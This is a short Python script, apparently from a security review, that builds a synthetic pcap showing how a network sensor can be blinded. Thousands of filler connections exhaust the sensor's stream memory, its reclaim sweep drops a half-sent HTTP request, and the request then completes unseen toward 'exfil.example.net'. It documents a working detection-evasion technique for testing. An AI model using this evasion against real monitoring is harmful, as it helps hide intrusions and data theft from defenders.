#!/usr/bin/python3
"""reclaim_hide.py OUT.pcap [N] - the reclaim sweep (sensor/flow.c stream_reclaim)
takes a direction in the middle of an HTTP request head and marks it done.
1. connection T (10.1.0.2:45000 -> 10.9.0.80:80) sends the head's first part,
   "GET /t HTTP/1.1\r\nUser-Agent: a\r\n" (the HTTP analyzer claims it and
   waits for the end of the head);
2. N (default 4,200) connections of the same agent each send 16,000 bytes
   to port 9000 (cap_blind.py's "under": windows under stream_max), which
   fill stream_total_max (64 MiB) and make the sweep run: T, idle meanwhile,
   is taken (flows.stream_reclaimed) and done;
3. T sends the rest, "Host: exfil.example.net\r\n\r\n"; the server answers
   200 (nginx waits client_header_timeout, 60 s, for the head's end).
With N = 0: the control (T's request is an event)."""
import sys
import os
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "review18"))
from pcapgen import Pcap, Conn  # review18's TCP conversation writer
out = sys.argv[1]; n = int(sys.argv[2]) if len(sys.argv) > 2 else 4200
p = Pcap(out)
t = Conn(p, "10.1.0.2", 45000, "10.9.0.80", 80)
t.send(b"GET /t HTTP/1.1\r\nUser-Agent: a\r\n", mss=1448)
for i in range(n):
    c = Conn(p, "10.1.0.%d" % (3 + i // 30000), 10000 + i % 30000, "10.9.1.%d" % (1 + i % 200), 9000)
    c.send(b"Z" * 16000, mss=1448)
t.send(b"Host: exfil.example.net\r\n\r\n")
t.recv(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
t.fin()
p.close()
